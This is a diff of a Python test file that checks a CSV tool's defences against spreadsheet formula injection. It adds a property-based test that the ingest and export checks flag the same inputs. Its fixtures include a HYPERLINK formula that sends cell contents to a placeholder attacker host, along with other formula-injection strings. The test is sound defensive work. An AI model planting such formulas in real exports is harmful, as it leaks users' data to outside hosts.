@@ -8,12 +8,16 @@ import csv
 import io
 import json
 
+import pyarrow as pa
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from auditor.audit.flags import add_flag
 from auditor.audit.log_csv import export_csv, import_csv
 from auditor.cli import main
 from auditor.csvsafe import FORMULA_STARTS, is_formula_like, neutralise, restore
+from auditor.ingest.validate import formula_like
 from auditor.store import open_project, transaction
 
 EVIL_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -27,6 +31,21 @@ EVIL_TEXTS = [EVIL_ID, "+SUM(A1:A9)", "-2+3", "@cmd", "\t=1", "\r=1", "'=already
 ])
 def test_the_predicate(value, formula):
     assert is_formula_like(value) is formula
+
+
+PREDICATE_CASES = ["=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", "-87.6", "+1e5", "-.5", "3",
+                   "home", "", "-", "V-001", " =1", "-5\n", "+1.", "-1e", "1e5", "-٣", "+."]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.one_of(st.none(), st.sampled_from(PREDICATE_CASES),
+                          st.text(alphabet="=+-@\t\r.eE0123456789 x'\n٣", max_size=6)),
+                max_size=20))
+def test_ingest_refuses_exactly_what_the_output_side_neutralises(values):
+    """One predicate: ingest's vectorised check (arrow, RE2) and the writers' (Python re) say
+    the same for every text, so nothing ingest accepts is ever changed on the way out."""
+    mask = formula_like(pa.array(values, pa.string()))
+    assert mask.tolist() == [v is not None and is_formula_like(v) for v in values]
 
 
 @pytest.mark.parametrize("value", EVIL_TEXTS + ["plain", "'quoted", "''", "-87.6", "", "'"])
